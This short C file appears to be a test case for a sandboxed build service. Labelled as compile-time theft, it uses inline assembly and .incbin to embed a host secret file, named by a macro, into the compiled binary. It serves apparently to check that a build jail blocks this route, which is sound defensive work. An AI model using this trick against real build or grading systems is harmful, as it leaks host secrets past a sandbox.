// A13 compile-time theft by the assembler: .incbin of a host file not bound into the box.
#define KG_STR2(x) #x
#define KG_STR(x) KG_STR2(x)
asm(".section .rodata\n.global stolen\nstolen:\n.incbin " KG_STR(KG_SECRET_FILE) "\n.previous\n");
int main() { return 0; }
